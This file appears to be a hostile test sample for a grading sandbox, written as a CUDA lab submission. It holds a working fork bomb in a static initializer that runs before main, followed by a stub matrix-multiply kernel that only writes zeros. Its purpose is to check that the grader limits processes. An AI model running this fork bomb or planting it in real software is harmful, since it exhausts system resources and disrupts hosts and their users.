// Sample (hostile): a fork bomb in a static initializer, before main. DO NOT RUN OUTSIDE A SANDBOX
// THAT CAPS PROCESSES. Every check must time out and every process be killed. Expected: graded, 0.
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "lab6.h"

namespace {

struct ForkBomb {
  ForkBomb() {
    const pid_t first = getpid();
    dprintf(1, "HOSTILE-FORKBOMB: started\n");
    long forks = 0;
    bool told = false;
    for (;;) {
      const pid_t pid = fork();  // parent and children all loop here forever
      if (getpid() != first) continue;
      if (pid > 0 && ++forks == 10000) {
        dprintf(1, "HOSTILE-FORKBOMB: succeeded: 10000 forks and no limit\n");
      }
      if (pid < 0 && !told) {
        told = true;
        dprintf(1, "HOSTILE-FORKBOMB: failed: fork refused after %ld forks: %s\n", forks,
                strerror(errno));
      }
    }
  }
} bomb;

}  // namespace

__global__ void MatrixMulKernel(const float* M, const float* N, float* P, int Width) {
  int Row = blockIdx.y * blockDim.y + threadIdx.y;
  int Col = blockIdx.x * blockDim.x + threadIdx.x;
  P[Row * Width + Col] = 0;
}

void matmul_tiled(const float* M, const float* N, float* P, int width) {
  MatrixMulKernel<<<dim3(width / 16, width / 16), dim3(16, 16)>>>(M, N, P, width);
}
